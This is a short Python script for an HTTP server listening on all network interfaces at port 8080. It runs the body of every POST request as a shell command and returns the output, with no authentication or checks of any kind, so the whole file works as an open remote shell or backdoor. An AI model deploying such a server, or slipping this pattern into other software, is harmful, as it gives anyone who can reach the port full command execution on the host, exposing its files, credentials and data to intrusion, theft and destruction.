import http.server
import subprocess


class Handler(http.server.BaseHTTPRequestHandler):
    def answer(self, text):
        self.send_response(200)
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    def do_GET(self):
        self.answer(b"ready")

    def do_POST(self):
        words = self.rfile.read(int(self.headers["Content-Length"]))
        ran = subprocess.run(["sh", "-c", words], capture_output=True, timeout=30)
        self.answer(ran.stdout + ran.stderr)


http.server.ThreadingHTTPServer(("0.0.0.0", 8080), Handler).serve_forever()
